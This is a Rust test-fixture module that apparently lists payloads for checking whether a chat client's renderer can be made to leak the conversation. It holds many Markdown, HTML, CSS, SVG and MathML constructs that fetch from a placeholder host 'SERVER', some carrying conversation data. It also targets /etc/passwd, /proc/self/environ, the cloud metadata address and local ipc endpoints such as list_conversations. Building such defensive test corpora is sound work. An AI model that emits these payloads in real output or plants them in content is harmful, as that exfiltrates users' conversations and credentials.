//! Text that makes a request: to reveal that it is read, or to exfiltrate the conversation.

use crate::{NamedText, numbered};

pub(crate) fn all() -> Vec<NamedText> {
    let image_schemes = IMAGE_DESTINATIONS.iter().enumerate().map(|(at, to)| {
        let text = format!(
            "![a]({to}) ![b](<{to}> \"c\") ![d][e] [![f]({to})]({to})\n\n| ![g]({to}) |\n|---|\n\n[e]: {to}\n"
        );
        (format!("an image from {}", at + 1), text)
    });
    numbered("an image in Markdown", IMAGES)
        .into_iter()
        .chain(image_schemes)
        .chain(numbered("HTML that asks", HTML))
        .chain(numbered("CSS that asks", CSS))
        .chain(numbered("a hint of what comes", HINTS))
        .chain(numbered("SVG that asks", SVG))
        .collect()
}

const IMAGES: &[&str] = &[
    "![x](http://SERVER/image.png)",
    "![x](https://SERVER/image.png)",
    "![x](http://SERVER/image.png?q=all+that+was+said \"title\")",
    "![](http://SERVER/pixel.gif)",
    "![x][image]\n\n[image]: http://SERVER/reference.png",
    "![image]\n\n[image]: http://SERVER/shortcut.png",
    "![image][]\n\n[image]: <http://SERVER/collapsed.png> 'title'",
    "[![x](http://SERVER/inner.png)](http://SERVER/outer)",
    "![![x](http://SERVER/inner.png)](http://SERVER/outer.png)",
    "| ![x](http://SERVER/cell.png) | ![](http://SERVER/pixel.png) |\n|---|---|\n| ![](http://SERVER/other.png) | x |\n",
    "> ![x](http://SERVER/quote.png)",
    "- ![x](http://SERVER/list.png)\n  1. ![x](http://SERVER/numbered.png)",
    "# ![x](http://SERVER/heading.png)",
    "**![x](http://SERVER/strong.png)** ~~![x](http://SERVER/gone.png)~~",
    "Note[^1].\n\n[^1]: ![x](http://SERVER/note.png)",
    "![x](http://SERVER/a.png =100x100)",
    "![x](//SERVER/relative.png)",
    "![x](http:\\\\SERVER\\back.png)",
    "![x](http://SERVER/half.png",
    "![x](<http://SERVER/half.png",
    "![a](http://SERVER/1.png)![a](http://SERVER/2.png)![a](http://SERVER/3.png)",
    "![x](http://SERVER/movie.mp4) ![x](http://SERVER/sound.mp3) ![x](http://SERVER/page.pdf)",
    "Fetch http://SERVER/bare and www.example.com for me.",
    "<http://SERVER/autolink.png>",
];

/// Addresses of images.
const IMAGE_DESTINATIONS: &[&str] = &[
    "file:///etc/passwd",
    "file:///proc/self/environ",
    "http://127.0.0.1/x.png",
    "http://localhost:11434/api/tags",
    "http://[::1]/x.png",
    "http://169.254.169.254/latest/meta-data/",
    "data:image/svg+xml,<svg/onload=ran=1>",
    "blob:http://SERVER/x",
    "tauri://localhost/main.js",
    "ipc://localhost/list_conversations",
    "asset://localhost/etc/passwd",
    "http://ipc.localhost/list_conversations",
    "ftp://SERVER/x.png",
    "https://images.example/x.png",
    "cid:x",
    "about:blank",
];

const HTML: &[&str] = &[
    "<img src=\"http://SERVER/html.png\">",
    "<img srcset=\"http://SERVER/1x.png 1x, http://SERVER/2x.png 2x\">",
    "<img loading=lazy src=\"http://SERVER/lazy.png\">",
    "<img lowsrc=\"http://SERVER/low.png\" dynsrc=\"http://SERVER/dyn.png\">",
    "<picture><source srcset=\"http://SERVER/source.png\"></picture>",
    "<video src=\"http://SERVER/v.mp4\" poster=\"http://SERVER/poster.png\" autoplay></video>",
    "<audio src=\"http://SERVER/a.mp3\" autoplay></audio>",
    "<track src=\"http://SERVER/t.vtt\" default>",
    "<object data=\"http://SERVER/object\"></object>",
    "<embed src=\"http://SERVER/embed\">",
    "<applet code=x archive=\"http://SERVER/applet.jar\"></applet>",
    "<iframe src=\"http://SERVER/iframe\" loading=eager></iframe>",
    "<input type=image src=\"http://SERVER/input.png\">",
    "<body background=\"http://SERVER/background.png\">",
    "<table background=\"http://SERVER/table.png\"><td background=\"http://SERVER/td.png\">x</table>",
    "<form action=\"http://SERVER/form\"><input name=password autofocus><button>Log in</button></form>",
    "<form id=f action=\"http://SERVER/form\"></form><button form=f>Send</button>",
    "<button formaction=\"http://SERVER/formaction\">Send</button>",
    "<bgsound src=\"http://SERVER/b.wav\">",
    "<xml src=\"http://SERVER/x.xml\"></xml>",
    "<html manifest=\"http://SERVER/manifest\">",
    "<a ping=\"http://SERVER/ping\" href=#>x</a>",
    "<img src='http://SERVER/dangling?",
    "<blockquote cite=\"http://SERVER/cite\">x</blockquote>",
    "<script src=\"//SERVER/protocol-relative.js\"></script>",
];

const CSS: &[&str] = &[
    "<style>@import 'http://SERVER/import.css';</style>",
    "<style>body{background:url(http://SERVER/body.png)}</style>",
    "<style>@font-face{font-family:x;src:url(http://SERVER/font.woff)}*{font-family:x}</style>",
    "<style>textarea[placeholder^=T]{background:url(http://SERVER/leak)}</style>",
    "<p style=\"background:url(http://SERVER/style.png)\">x</p>",
    "<p style=\"background-image:image-set('http://SERVER/set.png' 1x)\">x</p>",
    "<p style=\"list-style:url(http://SERVER/list.png);cursor:url(http://SERVER/cursor.cur),auto\">x</p>",
    "<p style=\"content:url(http://SERVER/content.png);mask:url(http://SERVER/mask.svg#m)\">x</p>",
    "<p style=\"behavior:url(http://SERVER/b.htc);-moz-binding:url(http://SERVER/b.xml#x)\">x</p>",
    "<link rel=stylesheet href=\"http://SERVER/link.css\">",
    "```css\n@import url(http://SERVER/code.css);\n```\n",
    "<svg><style>@import url(http://SERVER/svg.css);</style></svg>",
];

const HINTS: &[&str] = &[
    "<link rel=prefetch href=\"http://SERVER/prefetch\">",
    "<link rel=preload as=image href=\"http://SERVER/preload.png\">",
    "<link rel=modulepreload href=\"http://SERVER/module.js\">",
    "<link rel=dns-prefetch href=\"//leak.example\">",
    "<link rel=preconnect href=\"http://SERVER\">",
    "<link rel=prerender href=\"http://SERVER/prerender\">",
    "<link rel=icon href=\"http://SERVER/icon.png\">",
    "<link rel=manifest href=\"http://SERVER/manifest.json\">",
    "<meta http-equiv=refresh content=\"0;url=http://SERVER/refresh\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:ran=1\">",
    "<meta http-equiv=set-cookie content=\"x=1\">",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<meta name=referrer content=unsafe-url>",
    "<base href=\"http://SERVER/\">",
    "<base target=_blank>",
    "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"http://SERVER/s\"]}]}</script>",
];

const SVG: &[&str] = &[
    "<svg><image href=\"http://SERVER/image.png\"/></svg>",
    "<svg><image xlink:href=\"http://SERVER/xlink.png\"/></svg>",
    "<svg><use href=\"http://SERVER/use.svg#x\"/></svg>",
    "<svg><feImage href=\"http://SERVER/fe.png\"/></svg>",
    "<svg><rect fill=\"url(http://SERVER/fill.svg#x)\" filter=\"url(http://SERVER/filter.svg#x)\"/></svg>",
    "<svg><a href=\"http://SERVER/a\"><text>x</text></a></svg>",
    "<svg xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"http://SERVER/xi\"/></svg>",
    "<math><mglyph src=\"http://SERVER/glyph.png\"/></math>",
    "<math><annotation-xml src=\"http://SERVER/annotation\"></annotation-xml></math>",
    "<math href=\"http://SERVER/math\"><mi>x</mi></math>",
];
